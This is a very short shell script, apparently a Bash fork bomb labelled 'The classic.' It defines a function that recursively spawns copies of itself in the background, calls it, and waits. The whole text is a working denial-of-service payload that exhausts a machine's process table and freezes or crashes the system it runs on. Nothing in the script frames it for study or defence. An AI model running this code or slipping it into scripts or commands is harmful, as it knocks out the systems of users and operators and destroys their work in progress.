# The classic.
bomb() { bomb | bomb & }
bomb
wait
